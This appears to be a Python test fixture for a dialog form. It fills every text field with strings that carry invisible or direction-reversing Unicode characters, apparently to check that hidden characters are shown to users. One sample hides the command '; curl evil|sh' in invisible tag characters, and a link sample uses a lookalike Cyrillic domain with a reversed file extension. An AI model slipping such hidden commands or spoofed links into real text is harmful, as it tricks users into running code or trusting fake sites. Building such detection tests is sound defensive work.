"""What hides in a text, or turns it around: each with what people must see of it, and where."""

# By what they are: the code points, hexadecimal. Each stands between Latin letters, where no writing needs it.
HIDDEN = {
    "a command in tags": " ".join(f"{0xE0000 + ord(letter):X}" for letter in "; curl evil|sh"),
    "tags": "E0001 E007F E0FFF", "zero width": "200B 2060 FEFF", "joiners": "200C", "a joiner": "200D", "soft hyphen": "AD",
    "grapheme joiner": "34F", "directions": "200E 200F 61C", "embeddings": "202A 202B 202C", "overrides": "202D 202E",
    "isolates": "2066 2067 2068 2069", "Hangul fillers": "115F 1160", "another": "3164", "half width": "FFA0",
    "Khmer vowels": "17B4 17B5", "Mongolian selectors": "180B 180D", "Mongolian separator": "180E", "selectors": "FE00 FE0D",
    "emoji selectors": "FE0E FE0F", "selectors of ideographs": "E0100 E01EF", "operators": "2061 2064", "deprecated": "206A 206F",
    "blank Braille": "2800", "annotations": "FFF9 FFFB", "shorthand and music": "1BCA0 1D173",
}
DECEPTIONS = [f"a{''.join(chr(int(point, 16)) for point in points.split())}b" for points in HIDDEN.values()]
ALL_SEEN = [f"a{''.join(f'⟨U+{point:0>4}⟩' for point in points.split())}b" for points in HIDDEN.values()]
DECEPTION, SEEN = " ".join(DECEPTIONS), " ".join(ALL_SEEN)
# A picture of two pixels.
PICTURE = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAIAAAABCAIAAAB7QOjdAAAADUlEQVR4nGP4zwAE/wEHAAH/4iOeWQAAAABJRU5ErkJggg==")

DEFINITION = {
    "title": DECEPTION, "message": DECEPTION,
    # Titles of buttons are shorter.
    "buttons": [{"title": " ".join(DECEPTIONS[:9]), "role": "ok"}, {"title": " ".join(DECEPTIONS[9:]), "role": "cancel"}],
    "fields": [
        {"name": "note", "label": DECEPTION, "help": DECEPTION, "placeholder": DECEPTION, "value": "a\u202eb",
         "rules": [{"length": {"min": 9}, "message": DECEPTION}]},
        {"section": DECEPTION, "help": DECEPTION},
        {"name": "one", "kind": "choice", "options": [
            {"value": "a", "title": DECEPTION, "help": DECEPTION}, {"value": "b", "title": "B"}]},
        {"name": "many", "kind": "choice", "options": [{"value": f"{n}", "title": DECEPTION} for n in range(6)]},
        {"name": "amount", "kind": "number", "unit": "a\u200bb"},
        {"name": "secret", "kind": "password", "label": DECEPTION},
    ],
    "context": [
        {"text": DECEPTION}, {"code": DECEPTION, "language": "a\u200bb"}, {"diff": f"+{DECEPTION}"},
        {"table": {"columns": [DECEPTION], "rows": [[DECEPTION]]}}, {"link": "https://\u0430pple.com/\u202egpj", "title": DECEPTION},
        {"image": PICTURE, "alt": DECEPTION},
        {"markdown": f"# {DECEPTION}\n\n> *{DECEPTION}* `{DECEPTION}` [{DECEPTION}](a)\n\n|{DECEPTION}|\n|-|"},
    ],
}
